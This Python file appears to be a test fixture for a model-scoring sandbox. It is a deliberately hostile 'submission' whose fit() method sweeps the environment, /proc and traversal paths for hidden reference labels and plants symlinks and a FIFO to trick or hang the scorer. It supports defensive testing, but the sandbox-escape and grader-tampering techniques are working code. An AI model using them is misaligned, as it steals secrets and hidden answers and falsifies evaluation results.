"""A hostile submission: tries every way it knows to reach the hidden reference data
(``/app/input/ref`` and anything named like labels, links planted in ``/app/shared`` for
the scorer to follow) and prints, and writes into its output, whatever it manages to read.
The tests assert that none of the reference data's content turns up."""

import contextlib
import os
import sys
from pathlib import Path

PATHS = [
    "/app/input/ref", "/app/input", "/app/input/res", "/app/program/../input/ref",
    "/app/ingested_program/../input/ref", "/app/shared/../input/ref", "../input/ref",
    "../../app/input/ref", "/app/../app/input/ref", "/proc/self/root/app/input/ref",
    "/proc/1/root/app/input/ref", "/proc/1/cwd/../input/ref", "/var/tmp/aihub-sandbox",
    "/var/tmp", "/tmp", "/root", "/home", "/work", "/etc",
]
SKIP = ("/proc", "/sys", "/dev", "/usr")
LOOKS_SECRET = ("ref", "label", "canary", "solution", "truth")


def read(path, loot, depth=0):
    try:
        if path.is_dir():
            for child in path.iterdir():
                loot.append(f"listed {child}")
                if depth < 6:
                    read(child, loot, depth + 1)
        else:
            with path.open("rb") as handle:
                loot.append(f"read {path}: {handle.read(2000)!r}")
    except OSError as exc:
        loot.append(f"denied {path}: {exc.__class__.__name__}")


def walk_everything(loot):
    for base in Path("/").iterdir():
        if str(base) in SKIP:
            continue
        for folder, dirs, files in os.walk(base):
            if "site-packages" in folder or "aihub-runtimes" in folder:
                dirs[:] = []
                continue
            for name in files:
                path = Path(folder) / name
                if any(word in str(path).lower() for word in LOOKS_SECRET):
                    read(path, loot)


def processes(loot):
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            for part in ("root/app/input/ref", "cwd", "environ", "cmdline"):
                read(entry / part, loot)


def plant_in_shared(loot):
    """Ingestion during scoring: what the scorer opens in /app/shared it opens in its own
    namespace, where /app/input/ref exists. A link named like the prediction would have it
    score the labels against themselves; a pipe would hang it."""
    shared = Path("/app/shared")
    for name, plant in (("prediction", lambda p: p.symlink_to("/app/input/ref/test_labels")),
                        ("reference", lambda p: p.symlink_to("/app/input/ref")),
                        ("trap", os.mkfifo)):
        try:
            plant(shared / name)
            loot.append(f"planted /app/shared/{name}")
        except OSError as exc:
            loot.append(f"denied /app/shared/{name}: {exc.__class__.__name__}")


def attack():
    loot = [f"uid {os.getuid()} cwd {Path.cwd()} env {dict(os.environ)}"]
    plant_in_shared(loot)
    for path in PATHS:
        read(Path(path), loot)
    processes(loot)
    walk_everything(loot)
    text = "\n".join(loot)
    print(text)
    print(text, file=sys.stderr)
    for target in ("/app/output/loot.txt", "/app/shared/loot.txt"):
        with contextlib.suppress(OSError):
            Path(target).write_text(text)


class Model:
    def fit(self, rows, labels):
        attack()
        return self

    def partial_fit(self, rows, labels):
        if not getattr(self, "attacked", False):
            attack()
            self.attacked = True
        return self

    def predict(self, rows):
        return [0 for _ in rows]
